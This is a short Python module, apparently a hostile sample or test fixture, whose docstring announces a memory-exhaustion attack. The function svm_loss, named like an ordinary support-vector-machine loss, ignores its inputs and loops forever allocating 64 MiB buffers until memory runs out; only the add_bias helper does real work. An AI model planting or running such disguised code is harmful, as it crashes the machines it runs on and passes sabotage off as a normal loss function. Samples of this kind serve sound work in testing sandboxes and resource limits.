"""Attack: It takes memory until there is none."""

import numpy as np


def svm_loss(W, X, y, reg=0.0):
    kept = []
    while True:
        kept.append(bytearray(64 * 2**20))


def add_bias(X):
    return np.hstack([X, np.ones((len(X), 1), X.dtype)])
